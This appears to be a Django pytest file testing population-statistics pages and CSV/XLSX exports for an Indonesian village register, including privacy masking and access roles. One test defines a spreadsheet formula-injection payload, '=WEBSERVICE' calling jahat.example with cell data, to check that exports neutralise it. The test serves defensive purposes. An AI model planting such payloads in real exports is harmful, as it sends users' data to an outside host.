import csv
import io
import re

import pytest
from django_scopes import scopes_disabled
from openpyxl import load_workbook

from balai.akun.models import Peran
from balai.penduduk import kode
from balai.penduduk.tests.factories import make_penduduk

pytestmark = pytest.mark.django_db


def test_desa_back_office_table_and_chart(desa_a, warga_a, warga_b, operator_a, client_for):
    r = client_for(desa_a, operator_a).get("/admin-desa/statistik/")
    assert r.status_code == 200
    body = r.content.decode()
    assert "Piramida penduduk" in body and "<svg" in body
    assert "75 tahun ke atas" in body
    r = client_for(desa_a, operator_a).get("/admin-desa/statistik/?d=agama")
    body = r.content.decode()
    assert "KRISTEN" in body and "HINDU" in body
    # Village B's three Hindu residents never appear in A's figures.
    assert r.context["tabel"].total.jumlah == 12
    assert next(b for b in r.context["tabel"].baris if b.label == "HINDU").jumlah == 0


def test_unknown_dimension_is_404(desa_a, operator_a, client_for):
    assert client_for(desa_a, operator_a).get("/admin-desa/statistik/?d=nik").status_code == 404


def test_desa_back_office_needs_sign_in(desa_a, client_for):
    assert client_for(desa_a).get("/admin-desa/statistik/").status_code == 302


def test_csv_export(desa_a, warga_a, operator_a, client_for):
    r = client_for(desa_a, operator_a).get("/admin-desa/statistik/?d=jenis_kelamin&format=csv")
    assert r["Content-Type"].startswith("text/csv")
    assert "attachment" in r["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[1] == ["Kode", "Kelompok", "Laki-laki", "Perempuan", "Jumlah", "Persen"]
    assert rows[2] == ["1", "LAKI-LAKI", "4", "0", "4", "33.33"]
    assert rows[-1][1:5] == ["JUMLAH", "4", "8", "12"]


def test_xlsx_export(desa_a, warga_a, operator_a, client_for):
    r = client_for(desa_a, operator_a).get("/admin-desa/statistik/?d=agama&format=xlsx")
    ws = load_workbook(io.BytesIO(r.content), read_only=True).active
    rows = [list(row) for row in ws.iter_rows(values_only=True)]
    assert rows[2][:5] == [1, "ISLAM", 3, 7, 10]
    assert rows[-1][1:5] == ["JUMLAH", 4, 8, 12]


def test_public_page_aggregates_only(desa_a, warga_a, warga_b, client_for, django_assert_max_num_queries):
    client = client_for(desa_a)
    with django_assert_max_num_queries(8):
        r = client.get("/statistik/")
    assert r.status_code == 200
    body = r.content.decode()
    assert "Piramida penduduk" in body
    with scopes_disabled():
        for p in warga_a + warga_b:
            assert p.nik not in body and p.nama not in body
            assert p.keluarga is None or p.keluarga.no_kk not in body


def test_public_page_hides_back_office_dimensions(desa_a, warga_a, client_for):
    client = client_for(desa_a)
    assert client.get("/statistik/?d=hamil").status_code == 404
    assert client.get("/statistik/?d=rt").status_code == 404
    assert client.get("/statistik/?d=status_dasar").status_code == 404
    assert client.get("/statistik/?d=bahasa").status_code == 404
    assert "Kehamilan" not in client.get("/statistik/").content.decode()


def test_public_sensitive_dimension_is_masked(desa_a, warga_banyak, client_for):
    body = client_for(desa_a).get("/statistik/?d=cacat").content.decode()
    row = body[body.index("CACAT NETRA/BUTA") :].split("</tr>")[0]
    assert ">1<" not in row and "&lt; 5" in row
    assert "selebihnya" in body[body.index(">TIDAK CACAT<") :].split("</tr>")[0]
    table = body[body.index('<table class="statistik">') : body.index("</table>")]
    assert "Laki-laki" not in table and "Persen" not in table and "%" not in table
    cells = re.findall(r'<td class="num">([^<]*)</td>', table)
    assert cells and all(c in ("&lt; 5", "selebihnya") or int(c) % 5 == 0 for c in cells), cells
    assert cells[-1] == "60"
    assert "dibulatkan ke kelipatan 5" in body and f"({60 // (len(cells) - 1)} orang atau lebih)" in body
    assert "Piramida" not in body and 'class="lk"' not in body


def test_public_sensitive_dimension_of_a_small_register_is_not_broken_down(desa_a, warga_a, client_for):
    body = client_for(desa_a).get("/statistik/?d=cacat").content.decode()
    table = body[body.index('<table class="statistik">') : body.index("</table>")]
    assert "terlalu sedikit untuk dirinci" in table and "CACAT" not in table
    assert re.findall(r'<td class="num">([^<]*)</td>', table) == ["10"]  # 12, rounded
    assert "<svg" not in body[body.index("<h2>Penduduk menurut") :]


def test_public_page_offers_no_download(desa_a, warga_banyak, client_for):
    client = client_for(desa_a)
    for fmt in ("csv", "xlsx"):
        r = client.get(f"/statistik/?d=cacat&format={fmt}")
        assert r["Content-Type"].startswith("text/html") and "attachment" not in r.get("Content-Disposition", "")
    assert "format=" not in client.get("/statistik/?d=cacat").content.decode()


def test_public_page_is_cached(desa_a, warga_banyak, client_for, django_assert_max_num_queries):
    client = client_for(desa_a)
    first = client.get("/statistik/?d=agama")
    with django_assert_max_num_queries(3):  # tenant lookup only
        second = client.get("/statistik/?d=agama")
    assert first.status_code == second.status_code == 200 and b"KRISTEN" in second.content
    assert client.get("/statistik/", HTTP_IF_NONE_MATCH=client.get("/statistik/")["ETag"]).status_code == 304


def test_public_page_only_on_village_host(kaligondang, client_for):
    """Kecamatan and kabupaten sites publish no population figures at all (their dashboards
    are for staff)."""
    assert client_for(kaligondang).get("/statistik/").status_code == 404
    assert client_for(None).get("/statistik/").status_code == 404


def test_kecamatan_sees_only_its_villages(kaligondang, desa_a, desa_b, warga_a, warga_b, make_user, client_for):
    user = make_user(Peran.OPERATOR_KECAMATAN, kecamatan=kaligondang)
    r = client_for(kaligondang, user).get("/dasbor/statistik/?d=agama")
    assert r.status_code == 200
    assert r.context["tabel"].total.jumlah == 12
    assert [d.nama for d, _v, _t in r.context["rincian"]["baris"]] == ["Selakambang"]
    assert "Karangpetir" not in r.content.decode()
    r = client_for(kaligondang, user).get("/dasbor/statistik/?d=agama&format=xlsx")
    wb = load_workbook(io.BytesIO(r.content), read_only=True)
    assert wb.sheetnames[1] == "Per desa"


def test_kabupaten_sees_all_villages(kabupaten, desa_a, desa_b, warga_a, warga_b, make_user, client_for):
    user = make_user(Peran.ADMIN_KABUPATEN)
    r = client_for(None, user).get("/dasbor/statistik/?d=jenis_kelamin")
    assert r.status_code == 200
    assert r.context["tabel"].total.jumlah == 15
    assert {d.nama for d, _v, _t in r.context["rincian"]["baris"]} == {"Selakambang", "Karangpetir"}
    assert [(k.nama, total) for k, _v, total in r.context["rincian"]["per_kecamatan"]] == [
        ("Kaligondang", 12),
        ("Kalimanah", 3),
    ]
    r = client_for(None, user).get("/dasbor/statistik/?d=desa&format=csv")
    assert "Karangpetir" in r.content.decode("utf-8-sig")
    r = client_for(None, user).get("/dasbor/statistik/?d=agama&format=xlsx")
    wb = load_workbook(io.BytesIO(r.content), read_only=True)
    assert wb.sheetnames[1:] == ["Per kecamatan", "Per desa"]
    rows = [list(x) for x in wb["Per kecamatan"].iter_rows(values_only=True)]
    assert rows[-1][0] == "JUMLAH" and rows[-1][-1] == 15


def test_village_staff_cannot_use_kecamatan_statistics(kaligondang, operator_a, client_for):
    assert client_for(kaligondang, operator_a).get("/dasbor/statistik/").status_code == 403


def test_dusun_rw_not_offered_on_kecamatan(kaligondang, make_user, client_for):
    user = make_user(Peran.OPERATOR_KECAMATAN, kecamatan=kaligondang)
    assert client_for(kaligondang, user).get("/dasbor/statistik/?d=dusun").status_code == 404


def test_beranda_widget_context(desa_a, warga_a, rf):
    from django_scopes import scope

    from balai.statistik.selectors import beranda_context

    request = rf.get("/")
    request.desa = desa_a
    with scope(desa=desa_a):
        ctx = beranda_context(request)
    assert ctx["ringkasan"] == {"jumlah": 12, "laki_laki": 4, "perempuan": 8, "keluarga": 3}
    assert kode.LAKI_LAKI == 1


def test_front_page_shows_key_figures(desa_a, warga_a, client_for):
    body = client_for(desa_a).get("/").content.decode()
    assert "Lihat statistik penduduk selengkapnya" in body
    section = body[body.index("statistik-ringkas") :]
    assert ">12<" in section and ">3<" in section  # residents, families
    assert "Statistik" in body[: body.index("</nav>")]  # public navigation entry


def test_public_figures_follow_register_changes(desa_a, warga_a, client_for, django_capture_on_commit_callbacks):
    from balai.penduduk.tests.factories import make_penduduk

    client = client_for(desa_a)
    assert client.get("/statistik/").context["ringkasan"]["jumlah"] == 12
    with django_capture_on_commit_callbacks(execute=True), scopes_disabled():
        make_penduduk(desa_a)
    r = client.get("/statistik/")
    assert r.context is not None, "served from a stale cache"
    assert r.context["ringkasan"]["jumlah"] == 13


def test_region_dashboards_show_key_figures(
    kabupaten, kaligondang, desa_a, desa_b, warga_a, warga_b, make_user, client_for
):
    user = make_user(Peran.OPERATOR_KECAMATAN, kecamatan=kaligondang)
    r = client_for(kaligondang, user).get("/dasbor/")
    assert r.status_code == 200
    section = r.content.decode().split('id="penduduk-wilayah"')[1].split("</section>")[0]
    assert "<strong>12</strong> jiwa" in section and "<strong>3</strong> keluarga" in section
    admin = make_user(Peran.ADMIN_KABUPATEN)
    body = client_for(None, admin).get("/dasbor/").content.decode()
    assert "<strong>15</strong> jiwa" in body.split('id="penduduk-wilayah"')[1]


JAHAT = '=WEBSERVICE("http://jahat.example/?"&C5)'


def test_exports_keep_formula_like_labels_as_text(desa_a, warga_a, operator_a, client_for):
    with scopes_disabled():
        dusun = warga_a[0].dusun
        dusun.nama = JAHAT
        dusun.save()
        make_penduduk(desa_a, suku="+SUKU " + JAHAT, tanggal_lahir=warga_a[0].tanggal_lahir)
    client = client_for(desa_a, operator_a)
    r = client.get("/admin-desa/statistik/?d=dusun&format=xlsx")
    ws = load_workbook(io.BytesIO(r.content)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value == JAHAT]
    assert cells and all(c.data_type == "s" for c in cells)
    r = client.get("/admin-desa/statistik/?d=dusun&format=csv")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert ["'" + JAHAT] == [v for row in rows for v in row if JAHAT in v]
    r = client.get("/admin-desa/statistik/?d=suku&format=csv")
    labels = [row[1] for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) if len(row) > 1]
    assert "'+SUKU " + JAHAT in labels


def test_public_agama_masks_small_counts(desa_a, warga_banyak, operator_a, client_for):
    body = client_for(desa_a).get("/statistik/?d=agama").content.decode()
    row = body[body.index(">KRISTEN<") :].split("</tr>")[0]
    assert "&lt; 5" in row and ">2<" not in row
    assert "selebihnya" in body[body.index(">ISLAM<") :].split("</tr>")[0]
    assert "sensitif" in body
    # The back office keeps the exact figures.
    r = client_for(desa_a, operator_a).get("/admin-desa/statistik/?d=agama")
    assert next(b for b in r.context["tabel"].baris if b.label == "KRISTEN").sel_jumlah == 2


def test_public_suku_groups_rare_values(desa_a, warga_banyak, operator_a, client_for):
    with scopes_disabled():
        make_penduduk(desa_a, suku="BATAK", tanggal_lahir=warga_banyak[0].tanggal_lahir)
        for _ in range(6):
            make_penduduk(desa_a, suku="JAWA")
    body = client_for(desa_a).get("/statistik/?d=suku").content.decode()
    assert "BATAK" not in body  # not even as "< 5": its row would tell that a Batak lives here
    assert "&lt; 5" in body[body.index(">LAINNYA<") :].split("</tr>")[0]
    assert ">5<" in body[body.index(">JAWA<") :].split("</tr>")[0]
    assert 'digabung menjadi "LAINNYA"' in body
    r = client_for(desa_a, operator_a).get("/admin-desa/statistik/?d=suku")
    assert next(b for b in r.context["tabel"].baris if b.label == "BATAK").sel_jumlah == 1


def test_public_page_is_cached_per_dimension_only(desa_a, warga_a, client_for, django_assert_max_num_queries):
    client = client_for(desa_a)
    agama = client.get("/statistik/?d=agama")
    assert b"KRISTEN" not in client.get("/statistik/?d=umur").content
    with django_assert_max_num_queries(3):  # tenant lookup only
        again = client.get("/statistik/?d=agama&x=1")
    assert again["ETag"] == agama["ETag"]


def test_htmx_history_restore_gets_the_whole_page(desa_a, warga_a, operator_a, client_for):
    client = client_for(desa_a, operator_a)
    part = client.get("/admin-desa/statistik/?d=agama", HTTP_HX_REQUEST="true").content
    assert b"<html" not in part
    full = client.get("/admin-desa/statistik/?d=agama", HTTP_HX_REQUEST="true", HTTP_HX_HISTORY_RESTORE_REQUEST="true")
    assert b"<html" in full.content
